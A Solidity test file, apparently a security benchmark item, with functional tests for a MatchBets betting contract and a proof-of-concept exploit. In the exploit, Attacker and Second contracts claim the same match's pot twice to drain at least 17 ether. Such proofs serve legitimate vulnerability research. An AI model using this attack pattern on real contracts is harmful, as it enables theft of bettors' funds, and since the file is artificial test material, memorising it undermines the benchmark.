// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./MatchBets.sol";

// assay-canary-098d77c2-d3fc-4a17-bfcb-5822fbd827f1

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0111);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1600000000;

    MatchBets private bets;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.startPrank(OWNER);
        bets = new MatchBets();
        bets.open(START + 1 days);
        bets.open(START + 20 days);
        vm.stopPrank();
        vm.deal(ANA, 40 ether);
        vm.deal(BEN, 40 ether);
        vm.prank(ANA);
        bets.bet{value: 9 ether}(0, 1);
        vm.prank(BEN);
        bets.bet{value: 20 ether}(1, 0);
        mallory = new Attacker(bets);
        vm.deal(address(mallory), 4 ether);
        mallory.join();
        vm.prank(BEN);
        bets.bet{value: 0.5 ether}(0, 0);
        vm.warp(START + 2 days);
        vm.prank(OWNER);
        bets.settle(0, 1);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        bets.claim(0);
        require(BEN.balance == 21 ether, "a ninth of 13.5");
        vm.stopPrank();
        vm.prank(ANA);
        bets.bet{value: 2 ether}(1, 1);
        vm.prank(OWNER);
        bets.open(START + 20 days);
        vm.prank(ANA);
        bets.bet{value: 1 ether}(2, 1);
        vm.warp(START + 20 days);
        vm.prank(OWNER);
        bets.settle(1, 2);
        vm.prank(ANA);
        bets.claim(1);
        require(ANA.balance == 50 ether, "all 22");
        vm.warp(START + 27 days);
        bets.callOff(2);
        vm.prank(ANA);
        bets.claim(2);
        require(ANA.balance == 51 ether, "called off");
        (, uint256 pot, uint8 result) = bets.infoOf(2);
        require(pot == 1 ether && result == 3, "info");
        vm.prank(OWNER);
        bets.transferOwnership(ANA);
        vm.prank(ANA);
        bets.renounceOwnership();
    }

    function test_RefusesToKeepAPotWithoutWinners() public {
        vm.warp(START + 20 days);
        vm.prank(OWNER);
        bets.settle(1, 2);
        vm.prank(BEN);
        bets.claim(1);
        require(BEN.balance == 39.5 ether, "nobody bet on the guest");
    }

    function test_RefusesBets() public {
        vm.startPrank(ANA);
        vm.expectRevert("MatchBets: closed");
        bets.bet{value: 1 ether}(0, 0);
        vm.expectRevert("MatchBets: too little");
        bets.bet{value: 0.009 ether}(1, 0);
        vm.expectRevert("MatchBets: nothing won");
        bets.claim(0);
        require(bets.payout(1, ANA) == 0 && bets.payout(1, BEN) == 0, "not settled");
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("MatchBets: nothing won");
        bets.claim(1);
        vm.startPrank(BEN);
        bets.claim(0);
        vm.expectRevert("MatchBets: nothing won");
        bets.claim(0);
        vm.stopPrank();
    }

    function test_RefusesResults() public {
        vm.startPrank(OWNER);
        vm.expectRevert("MatchBets: in the past");
        bets.open(block.timestamp);
        vm.expectRevert("MatchBets: too early");
        bets.settle(1, 1);
        vm.expectRevert("MatchBets: settled");
        bets.settle(0, 1);
        vm.expectRevert("MatchBets: too early");
        bets.callOff(1);
        vm.warp(START + 20 days);
        vm.expectRevert("MatchBets: no result");
        bets.settle(1, 0);
        vm.expectRevert("MatchBets: no result");
        bets.settle(1, 4);
        vm.expectRevert("MatchBets: settled");
        bets.callOff(0);
        vm.stopPrank();
        vm.expectRevert("Ownable: caller is not the owner");
        bets.settle(1, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        bets.open(START + 30 days);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 17 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(bets);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Second {
    MatchBets private bets;

    constructor(MatchBets b) public payable {
        bets = b;
        b.bet{value: msg.value}(0, 0);
    }

    receive() external payable {}

    function run() external {
        bets.claim(0);
        msg.sender.transfer(address(this).balance);
    }
}

contract Attacker {
    MatchBets private bets;
    Second private second;

    constructor(MatchBets b) public {
        bets = b;
    }

    receive() external payable {}

    function join() external {
        bets.bet{value: 3 ether}(0, 0);
        second = new Second{value: 1 ether}(bets);
    }

    function run() external {
        bets.claim(0);
        second.run();
    }
}
